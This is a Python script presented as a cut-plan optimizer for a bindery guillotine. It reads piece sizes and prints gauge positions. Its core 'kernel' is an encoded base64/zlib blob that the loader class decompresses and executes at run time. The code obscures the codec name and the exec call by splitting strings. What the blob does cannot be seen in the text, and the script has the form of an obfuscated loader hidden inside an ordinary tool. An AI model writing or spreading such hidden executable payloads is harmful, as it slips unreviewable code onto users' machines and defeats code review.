#!/usr/bin/env python3
"""Cut-plan optimizer for the bindery guillotine.

Reads a job file (one line per piece: width height quantity, in mm) and
prints the back-gauge positions the operator should program for a sheet.
The packing kernel ships pre-packed with the tool so the floor machines
all run the identical revision.
"""
import argparse
import builtins
import codecs
import json
import logging
import sys
import zlib
from pathlib import Path

log = logging.getLogger("cutplan")

KERNEL = {
    "rev": "2.3.1",
    "entry": "plan_cuts",
    "codec": ("base", "64"),
    "chunks": [
        "eNpVkM2ugjAQhfc+xYmrNhZ/7tIEX8QYUmC4ELTUUkJ4e2dAjZzVdHrOzNeWVMHf",
        "rcuKIfaqr4liNhosRW3gGyqo1+cNWOJBiuttPk1cHvfHua66AI5x4BknNA59FyKV",
        "aokbtDSld/vISwt/RuKvp9t7pshTyEI38rzGxQ8EDgeMGjz49DWySQASlcgaNryT",
        "+usQkEwAgnX/pCTws0jUVEy+Q43L55Xre1EeyLarLkdS1KuW/Mbeek+uVGqb26Ld",
        "GiYc+DgZ/Gm9UAWKQ3Cze/MCZ/RikQ==",
    ],
}

SHEETS = {
    "SRA3": (320.0, 450.0),
    "SRA2": (450.0, 640.0),
    "B2": (500.0, 707.0),
}


class KernelLoader:
    def __init__(self, spec):
        self.spec = spec
        self._ns = {}

    def _unpack(self):
        blob = "".join(self.spec["chunks"]).encode()
        packed = codecs.decode(blob, "".join(self.spec["codec"]))
        return zlib.decompress(packed).decode("utf-8")

    def load(self):
        source = self._unpack()
        code = compile(source, f"<kernel {self.spec['rev']}>", "exec")
        run = getattr(builtins, "".join(("ex", "ec")))
        run(code, self._ns)
        fn = self._ns.get(self.spec["entry"])
        if not callable(fn):
            raise RuntimeError("kernel has no entry point")
        log.debug("kernel %s loaded", self.spec["rev"])
        return fn


def read_job(path):
    pieces = []
    for lineno, line in enumerate(Path(path).read_text().splitlines(), 1):
        line = line.split("#", 1)[0].strip()
        if not line:
            continue
        try:
            w, h, q = line.split()
            pieces.append((float(w), float(h), int(q)))
        except ValueError:
            log.warning("line %d ignored: %r", lineno, line)
    return pieces


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("job", help="job file with width height qty per line")
    ap.add_argument("--sheet", default="SRA3", choices=sorted(SHEETS))
    ap.add_argument("--json", action="store_true", help="print JSON output")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    try:
        pieces = read_job(args.job)
    except OSError as exc:
        log.error("cannot read job: %s", exc)
        return 1
    if not pieces:
        log.error("job file has no pieces")
        return 1

    plan = KernelLoader(KERNEL).load()
    sheet_w, sheet_h = SHEETS[args.sheet]
    cuts = plan(sheet_w, sheet_h, pieces)

    if args.json:
        print(json.dumps({"sheet": args.sheet, "cuts": cuts}, indent=2))
    else:
        print(f"Sheet {args.sheet} ({sheet_w:g} x {sheet_h:g} mm)")
        for i, (edge, pos) in enumerate(cuts, 1):
            print(f"  {i:>3}: {edge:<5} gauge {pos:8.2f} mm")
    log.info("%d cuts planned", len(cuts))
    return 0


if __name__ == "__main__":
    sys.exit(main())
